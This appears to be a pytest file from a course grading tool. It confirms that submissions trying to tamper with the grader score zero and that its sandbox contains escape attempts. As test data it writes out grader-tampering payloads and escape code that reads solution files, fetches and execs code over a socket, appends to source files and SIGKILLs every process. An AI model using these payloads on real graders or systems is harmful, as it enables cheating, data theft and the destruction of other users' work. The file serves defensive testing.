"""Submissions that try to fool coursekit.grade on exercise 01 score nothing.

Each one returns zeros of the right shape from every function (worth 0 of
8 points) and attacks the grader another way.  The families:

- in the student's own process, against the tests: numpy's comparisons
  replaced; the checks shadowed, patched or their code swapped; trace and
  profile hooks; IPython input and AST transformers and custom exception
  handlers that would drop or pass the test cells; a thread that keeps
  re-patching; `gc` walks to the check functions; objects that fake arrays
  (`__array__` walking up the stack for `expected`) or compare equal to
  anything; errors that quote the calling frame's source (the hidden
  tests); and the course's reference reached by import, `importlib`,
  `getattr` on a built string, `reload`, or reading its source and
  `exec`ing it.  The tests run in the judge, never in the student's
  process, and its rnnlib has no reference: all score 0, sandbox or not;
- out of the student's process (only the sandbox stops these): reading
  the solutions or a classmate's notebook, searching the disk, fetching
  the answers over the network, using root's rights, writing to the
  checkout, the solutions or a classmate's notebook, planting files,
  killing the other students' processes, leaving a process behind to kill
  later ones.  Each of those would score 8 of 8 (or harm a classmate) if
  it got out.

The class is graded three times: sandboxed as root, sandboxed as an
ordinary user (the user `nobody`, with the system's Python 3.11 and this
environment's packages), and unsandboxed (`--isolation off`) to show the
escapes are real.  An honest classmate in every run keeps full marks, and
nothing outside the submission's scratch folder changes.  The sandbox needs
bubblewrap: elsewhere these tests skip, saying why, unless
COURSEKIT_REQUIRE_ISOLATION is set (as CI sets it).
"""

import csv
import hashlib
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from grading_runs import require_sandbox, skip_or_fail

from coursekit.grading import sandbox
from coursekit.notebooks import grade_id, load_source, read_notebook, write_notebook
from coursekit.publishing.exercises import make_exercise

ROOT = Path(__file__).resolve().parents[1]
EXERCISE = "01_forward_propagation_exercises"

ZEROS = {  # right shapes, wrong values: every part's test must fail
    "rnn_cell_forward": (
        "def rnn_cell_forward(x_t, h_prev, W_hx, W_hh, b_h, W_yh, b_y):\n"
        "    B, (O, H) = x_t.shape[0], W_yh.shape\n"
        "    return np.zeros((B, H)), np.zeros((B, O))"
    ),
    "rnn_forward": (
        "def rnn_forward(x, h0, W_hx, W_hh, b_h, W_yh, b_y):\n"
        "    (B, T, _), (O, H) = x.shape, W_yh.shape\n"
        "    return np.zeros((B, T, H)), np.zeros((B, T, O))"
    ),
    "concat_weights": (
        "def concat_weights(W_hh, W_hx):\n"
        "    return np.zeros((W_hh.shape[0], W_hh.shape[1] + W_hx.shape[1]))"
    ),
    "rnn_step_forward_concat": (
        "def rnn_step_forward_concat(x_t, h_prev, W_h, b_h):\n"
        "    return np.zeros((x_t.shape[0], W_h.shape[0]))"
    ),
}
CHECKS = ("check_array", "check_not_calling", "upstream_first")

ATTACKS = {
    "zeros": "",
    "numpy": (
        "for name in ('allclose', 'array_equal', 'isclose', 'all', 'any'):\n"
        "    setattr(np, name, lambda *a, **k: True)\n"
        "np.testing.assert_allclose = lambda *a, **k: None"
    ),
    "shadowed": "\n".join(f"def {name}(*a, **k):\n    pass" for name in CHECKS),
    "patched": (
        "import coursekit.checks\n"
        + "\n".join(
            f"coursekit.checks.{n} = {n} = lambda *a, **k: None" for n in CHECKS
        )
    ),
    "code_swapped": "\n".join(
        f"{name}.__code__ = (lambda *a, **k: None).__code__" for name in CHECKS
    ),
    "trace_hooks": (
        "import sys\n"
        "def hook(frame, event, arg):\n"
        "    if 'expected' in frame.f_locals and 'got' in frame.f_locals:\n"
        "        frame.f_locals['got'] = frame.f_locals['expected']\n"
        "    return hook\n"
        "sys.settrace(hook)\n"
        "sys.setprofile(hook)"
    ),
    "ipython_hooks": (
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(\n"
        "    lambda lines: ['pass\\n'] if any('check_' in l for l in lines) else lines)\n"
        "import ast\n"
        "class Drop(ast.NodeTransformer):\n"
        "    def visit_Call(self, node):\n"
        "        return ast.Constant(None)\n"
        "ip.ast_transformers.append(Drop())\n"
        "ip.set_custom_exc((BaseException,), lambda *a, **k: None)"
    ),
    "repatching_thread": (
        "import threading, time, coursekit.checks\n"
        "def repatch():\n"
        "    while True:\n"
        "        for n in CHECKS:\n"
        "            setattr(coursekit.checks, n, lambda *a, **k: None)\n"
        "            globals()[n] = lambda *a, **k: None\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=repatch, daemon=True).start()"
    ),
    "gc_walk": (
        "import gc\n"
        "for obj in gc.get_objects():\n"
        "    if callable(obj) and getattr(obj, '__name__', '') in CHECKS:\n"
        "        try:\n"
        "            obj.__code__ = (lambda *a, **k: None).__code__\n"
        "        except (AttributeError, TypeError):\n"
        "            pass"
    ),
    "fake_arrays": (
        "import inspect\n"
        "class _Echo:\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        for info in inspect.stack():\n"
        "            if 'expected' in info.frame.f_locals:\n"
        "                return np.asarray(info.frame.f_locals['expected'])\n"
        "        return np.zeros(1)\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    shape = property(lambda self: (2, 4))\n"
        "_real = rnn_cell_forward\n"
    ),
    "quotes_caller": "",  # its functions raise the calling frames' source
    "reference_by_import": "",  # its functions call rnnlib's reference
    "reference_by_source": "",  # its functions exec rnnlib's source
    "private_helper": "",  # its functions call the reference's private helper
    "framework": "",  # its rnn_forward is torch.nn.RNN's
    "locked_cell": "",  # a cell of its own that says it is locked and given
    "graded_after": "",
}
# the functions themselves, for the attacks that live in them
FUNCTIONS = {
    "fake_arrays": {  # the cell and the forward pass return two arrays
        gid: f"def {gid}(*args, **kwargs):\n    return _Echo()"
        + (", _Echo()" if gid in ("rnn_cell_forward", "rnn_forward") else "")
        for gid in ZEROS
    },
    "quotes_caller": {
        gid: (
            f"def {gid}(*args, **kwargs):\n"
            "    import inspect\n"
            "    text = []\n"
            "    for info in inspect.stack():\n"
            "        try:\n"
            "            text.append(inspect.getsource(info.frame))\n"
            "        except (OSError, TypeError):\n"
            "            text.append(repr(info.frame.f_locals)[:3000])\n"
            "    raise AssertionError('\\n'.join(text))"
        )
        for gid in ZEROS
    },
    "reference_by_import": {
        "rnn_cell_forward": (
            "def rnn_cell_forward(x_t, h_prev, W_hx, W_hh, b_h, W_yh, b_y):\n"
            "    import importlib\n"
            "    lib = importlib.reload(importlib.import_module('rn' + 'nlib.rnn'))\n"
            "    h = getattr(lib, 'rnn_step_' + 'forward')(x_t, h_prev, W_hx, W_hh, b_h)[0]\n"
            "    return h, sigmoid(h @ W_yh.T + b_y)"
        ),
        "rnn_forward": (
            "def rnn_forward(x, h0, W_hx, W_hh, b_h, W_yh, b_y):\n"
            "    import rnnlib\n"
            "    h = rnnlib.RNN.__dict__ and rnnlib.rnn_forward(x, h0, W_hx, W_hh, b_h)[0]\n"
            "    return h, sigmoid(h @ W_yh.T + b_y)"
        ),
    },
    "private_helper": {
        "rnn_cell_forward": (
            "def rnn_cell_forward(x_t, h_prev, W_hx, W_hh, b_h, W_yh, b_y):\n"
            "    import importlib\n"
            "    rnn = importlib.import_module('rnnlib.rnn')\n"
            "    helpers = [f for n, f in vars(rnn).items() if n.startswith('_step')]\n"
            "    h = helpers[0](x_t, h_prev, W_hx, W_hh, b_h, 'tanh')[0]\n"
            "    return h, sigmoid(h @ W_yh.T + b_y)"
        ),
    },
    "framework": {
        "rnn_forward": (
            "def rnn_forward(x, h0, W_hx, W_hh, b_h, W_yh, b_y):\n"
            "    import torch\n"
            "    H, D = W_hx.shape\n"
            "    rnn = torch.nn.RNN(D, H, batch_first=True, dtype=torch.float64)\n"
            "    with torch.no_grad():\n"
            "        rnn.weight_ih_l0[:] = torch.from_numpy(W_hx)\n"
            "        rnn.weight_hh_l0[:] = torch.from_numpy(W_hh)\n"
            "        rnn.bias_ih_l0[:] = torch.from_numpy(b_h)\n"
            "        rnn.bias_hh_l0[:] = 0\n"
            "        h0 = np.zeros((x.shape[0], H)) if h0 is None else h0\n"
            "        out, _ = rnn(torch.from_numpy(x), torch.from_numpy(h0)[None])\n"
            "    h = out.numpy()\n"
            "    return h, sigmoid(h @ W_yh.T + b_y)"
        ),
    },
    "reference_by_source": {
        "rnn_cell_forward": (
            "def rnn_cell_forward(x_t, h_prev, W_hx, W_hh, b_h, W_yh, b_y):\n"
            "    import rnnlib.rnn\n"
            "    scope = {}\n"
            "    with open(rnnlib.rnn.__file__) as f:\n"
            "        exec(f.read(), scope)\n"
            "    h = scope['rnn_step_forward'](x_t, h_prev, W_hx, W_hh, b_h)[0]\n"
            "    return h, sigmoid(h @ W_yh.T + b_y)"
        ),
    },
}


# Only isolation stops these.  Each runs after the zeros in every solution
# cell and, if it gets out, defines the solved functions over them.
STEAL = """
import json, os
def steal(path):
    try:
        with open(path, encoding='utf-8') as f:
            cells = json.load(f)['cells']
    except (OSError, ValueError):
        return
    for cell in cells:
        if cell['metadata'].get('nbgrader', {}).get('solution'):
            exec(''.join(cell['source']), globals())
"""
ESCAPES = {
    "reads_solutions": "steal(SOLUTIONS)",
    "reads_classmate": "steal(CLASSMATE)",
    "searches_disk": (
        "for top in ('/tmp', '/var/tmp', '/dev/shm', '/root', '/home', '/work',\n"
        "            '/opt', '/srv', '/mnt', '/var', '/run'):\n"
        "    found = [os.path.join(f, NAME) for f, _, n in os.walk(top) if NAME in n]\n"
        "    for path in sorted(found, key=lambda p: 'solutions' in p):\n"
        "        steal(path)  # the solutions last: they win"
    ),
    "network": (
        "import socket\n"
        "try:\n"
        "    with socket.create_connection(('127.0.0.1', PORT), timeout=2) as s:\n"
        "        exec(s.makefile(encoding='utf-8').read(), globals())\n"
        "except OSError:\n"
        "    pass"
    ),
    "uses_root": "if os.geteuid() == 0 or os.getuid() == 0:\n    exec(SOLVED, globals())",
    "rewrites_checkout": (
        "evil = '\\n' + '\\n'.join(f'def {n}(*a, **k):\\n    pass' for n in CHECKS)\n"
        "for path in (CHECKOUT, SOLUTIONS, CLASSMATE):\n"
        "    try:\n"
        "        with open(path, 'a') as f:\n"
        "            f.write(evil)\n"
        "    except OSError:\n"
        "        pass"
    ),
    "kills_others": (
        "import signal\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) not in (1, os.getpid()):\n"
        "        try:\n"
        "            os.kill(int(pid), signal.SIGKILL)\n"
        "        except OSError:\n"
        "            pass"
    ),
    "leaves_a_process": (
        "import subprocess, sys\n"
        "killer = ('import os, signal, time\\n'\n"
        "          'time.sleep(3)\\n'\n"
        "          'for p in os.listdir(\\'/proc\\'):\\n'\n"
        "          '    if p.isdigit() and int(p) != os.getpid():\\n'\n"
        "          '        try: os.kill(int(p), signal.SIGKILL)\\n'\n"
        "          '        except OSError: pass\\n')\n"
        "subprocess.Popen([sys.executable, '-c', killer], start_new_session=True)"
    ),
    "leaves_files": (
        "for path in LEAKS:\n"
        "    try:\n"
        "        with open(path, 'w') as f:\n"
        "            f.write('planted')\n"
        "    except OSError:\n"
        "        pass"
    ),
}


# Unisolated, these get out (the proof that the attacks are real); the others
# would plant files or search the whole disk.
SHOWN_UNISOLATED = ("reads_solutions", "reads_classmate", "network", "uses_root")


def solved_code(course: Path) -> str:
    """The solution cells of exercise 01, as one program."""
    nb = load_source(course / "solutions" / f"{EXERCISE}.ipynb")
    cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
    return "\n\n".join(c.source for c in cells)


def submission(attack: str, course: Path, fill: dict):
    nb = make_exercise(load_source(course / "solutions" / f"{EXERCISE}.ipynb"))
    functions = {**ZEROS, **FUNCTIONS.get(attack, {})}
    code = ATTACKS.get(attack, "")
    escape = (STEAL + ESCAPES[attack]) if attack in ESCAPES else ""
    for name, value in {"CHECKS": CHECKS, **fill}.items():
        code, escape = (
            code.replace(name, repr(value)),
            escape.replace(name, repr(value)),
        )
    if attack == "locked_cell":  # run in the judge, it would pass every test
        sneaky = nbformat.v4.new_code_cell(
            "try:\n"
            "    import coursekit.grading.judge as j\n"
            "    j.Judge.run_test = lambda self, *args: (True, '', '')\n"
            "except ImportError:\n"
            "    pass"
        )
        sneaky.metadata["nbgrader"] = {
            "grade": False, "solution": False, "locked": True,
            "grade_id": "my_notes", "schema_version": 3,
        }  # fmt: skip
        nb.cells.insert(3, sneaky)
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in ZEROS:
            # the attack sits in the first solution cell, before the tests run
            first = gid == "rnn_cell_forward"
            cell.source = ((code + "\n\n") if first and code else "") + functions[gid]
            cell.source += ("\n\n" + escape) if escape else ""
    return nb


def digest(folder: Path) -> dict:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


def serve(text: str):
    """A TCP server on 127.0.0.1 that sends `text` to each caller, and a list
    that records the calls."""
    server = socket.create_server(("127.0.0.1", 0))
    calls = []

    def answer():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:  # closed
                return
            calls.append(conn)
            with conn:
                conn.sendall(text.encode())

    threading.Thread(target=answer, daemon=True).start()
    return server, calls


def _as_user_command():
    """The argv prefix that runs this Python's grader as the user nobody, or
    a reason why it cannot here."""
    if os.geteuid() != 0:
        return None, "running as an ordinary user needs root to switch users"
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    python = shutil.which(version, path="/usr/bin:/usr/local/bin")
    if python is None or shutil.which("setpriv") is None:
        return None, f"no system {version} or setpriv for the user nobody"
    prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    return [*prefix, python], None


def _ready_base(mode, tmp_path_factory):
    if mode == "user":  # a folder nobody can read and the gradebook's writable
        base = Path(tempfile.mkdtemp(prefix="tampering-user-"))
        base.chmod(0o755)
        return base
    return tmp_path_factory.mktemp(f"tampering-{mode}")


@pytest.fixture(scope="module", params=["off", "root", "user"])
def graded(request, tmp_path_factory):
    mode = request.param
    isolated = mode != "off"
    python = [sys.executable]
    if isolated:
        require_sandbox()
    if mode == "root" and os.geteuid() != 0:
        pytest.skip("the grader runs as an ordinary user here (the 'user' run)")
    if mode == "user" and os.geteuid() == 0:
        python, reason = _as_user_command()
        if python is None:
            skip_or_fail(reason)
    base = _ready_base(mode, tmp_path_factory)
    course = base / "course"
    ignore = shutil.ignore_patterns("__pycache__")
    for name in ("rnnlib", "coursekit"):
        shutil.copytree(ROOT / name, course / name, ignore=ignore)
    (course / "solutions").mkdir()
    shutil.copy(ROOT / "solutions" / f"{EXERCISE}.ipynb", course / "solutions")
    subs = base / "class"
    token = uuid.uuid4().hex
    leaks = [
        f"/tmp/coursekit-leak-{token}",
        f"/var/tmp/coursekit-leak-{token}",
        f"/dev/shm/coursekit-leak-{token}",
        str(subs / "solved" / "planted.txt"),
        str(course / "planted.txt"),
    ]
    server, calls = serve(solved_code(course))
    fill = {
        "CHECKOUT": str(course / "coursekit" / "checks" / "__init__.py"),
        "SOLUTIONS": str(course / "solutions" / f"{EXERCISE}.ipynb"),
        "CLASSMATE": str(subs / "solved" / f"{EXERCISE}.ipynb"),
        "NAME": f"{EXERCISE}.ipynb",
        "PORT": server.getsockname()[1],
        "SOLVED": solved_code(course),
        "LEAKS": leaks,
    }
    attacks = [*ATTACKS, *(ESCAPES if isolated else SHOWN_UNISOLATED)]
    solved = read_notebook(course / "solutions" / f"{EXERCISE}.ipynb")
    for name in [*attacks, "solved"]:
        (subs / name).mkdir(parents=True)
        nb = solved if name == "solved" else submission(name, course, fill)
        write_notebook(nb, subs / name / f"{EXERCISE}.ipynb")
    out = base / "out"
    out.mkdir()
    if mode == "user":
        os.chown(out, 65534, 65534)
    before = {"course": digest(course), "class": digest(subs)}

    # the killers run beside the honest classmate (two jobs)
    order = [subs / name / f"{EXERCISE}.ipynb" for name in [*attacks, "solved"]]
    packages = os.pathsep.join(sandbox.package_folders())
    try:
        run = subprocess.run(
            [*python, "-m", "coursekit.grade", *map(str, order),
             "--source", "solutions", "--out", str(out / "gradebook.csv"),
             "--feedback", str(out / "feedback"),
             "--jobs", "2", "--timeout", "120", "--cell-timeout", "30",
             "--isolation", "required" if isolated else "off"],
            cwd=course, capture_output=True, text=True, timeout=900,
            # the copy's coursekit, and this environment's packages
            env={**os.environ, "PYTHONPATH": f"{course}{os.pathsep}{packages}",
                 "HOME": str(out)},
        )  # fmt: skip
    finally:
        server.close()
    assert run.returncode == 0, run.stdout + run.stderr
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    feedback = {p.parent.name: p.read_text() for p in (out / "feedback").rglob("*.md")}
    yield {
        "rows": rows, "before": before, "course": course, "subs": subs,
        "isolated": isolated, "leaks": leaks, "calls": calls, "stderr": run.stderr,
        "feedback": feedback, "mode": mode,
    }  # fmt: skip
    for path in leaks:  # should a leak test fail, leave nothing behind
        Path(path).unlink(missing_ok=True)
    if mode == "user":
        shutil.rmtree(base, ignore_errors=True)


def hidden_lines(course: Path) -> list[str]:
    """Lines of the hidden tests that appear nowhere in the visible ones."""
    nb = load_source(course / "solutions" / f"{EXERCISE}.ipynb")
    hidden, visible = set(), set()
    for cell in nb.cells:
        inside = False
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            (hidden if inside else visible).add(line.strip())
    return sorted(h for h in hidden - visible if len(h) > 20)


def test_an_honest_solution_still_scores_full_marks(graded):
    solved = graded["rows"]["solved"]
    assert (solved["total"], solved["max_total"], solved["status"]) == ("8", "8", "ok")


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_tampering_scores_zero(graded, attack):
    row = graded["rows"][attack]
    assert row["status"] == "ok", row["message"]
    assert row["total"] == "0", row


def test_no_hidden_test_line_reaches_any_feedback(graded):
    lines = hidden_lines(graded["course"])
    assert len(lines) > 5  # the exercise has hidden tests to leak
    quoted = graded["feedback"]["quotes_caller"]
    assert "### `test_rnn_cell_forward`" in quoted  # its error is reported
    for name, text in graded["feedback"].items():
        leaked = [line for line in lines if line in text]
        assert leaked == [], f"{name}'s feedback shows hidden tests: {leaked[:3]}"


def test_the_reference_is_absent_and_its_use_is_named(graded):
    text = graded["feedback"]["reference_by_import"]
    assert "uses rnnlib's rnn_step_forward" in text
    assert "uses rnnlib's rnn_forward" in text


def test_fake_arrays_are_named_as_the_students_mistake(graded):
    assert "_Echo" in graded["feedback"]["fake_arrays"]


def test_submissions_are_left_as_they_were(graded):
    if graded["isolated"]:  # unsandboxed, the escapes below write into them
        assert digest(graded["subs"]) == graded["before"]["class"]
        assert digest(graded["course"]) == graded["before"]["course"]


@pytest.mark.parametrize("graded", ["root", "user"], indirect=True)
@pytest.mark.parametrize("escape", list(ESCAPES))
def test_a_sandboxed_submission_cannot_get_out(graded, escape):
    row = graded["rows"][escape]
    assert (row["status"], row["total"]) == ("ok", "0"), row


@pytest.mark.parametrize("graded", ["root", "user"], indirect=True)
def test_a_sandboxed_submission_leaves_nothing_behind(graded):
    assert [p for p in graded["leaks"] if os.path.exists(p)] == []
    assert graded["calls"] == []  # the network attack never got through
    assert "unsandboxed" not in graded["stderr"]


@pytest.mark.parametrize("graded", ["off"], indirect=True)
@pytest.mark.parametrize("escape", SHOWN_UNISOLATED)
def test_unsandboxed_the_same_submission_gets_out(graded, escape):
    row = graded["rows"][escape]
    root = os.geteuid() == 0
    expected = "0" if escape == "uses_root" and not root else "8"
    assert (row["status"], row["total"]) == ("ok", expected), row
    if escape == "network":
        assert len(graded["calls"]) >= 1
